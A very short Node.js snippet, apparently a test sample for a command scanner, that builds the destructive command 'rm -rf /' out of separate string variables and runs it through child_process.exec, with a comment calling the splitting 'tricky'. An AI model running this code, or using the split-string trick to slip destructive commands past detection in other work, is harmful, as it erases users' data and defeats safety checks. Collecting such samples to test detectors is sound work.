// tricky: the words of the command are variables
const { exec } = require('child_process');
const a = 'r', b = 'm', flags = '-rf', where = '/';
exec(`${a}${b} ${flags} ${where}`);
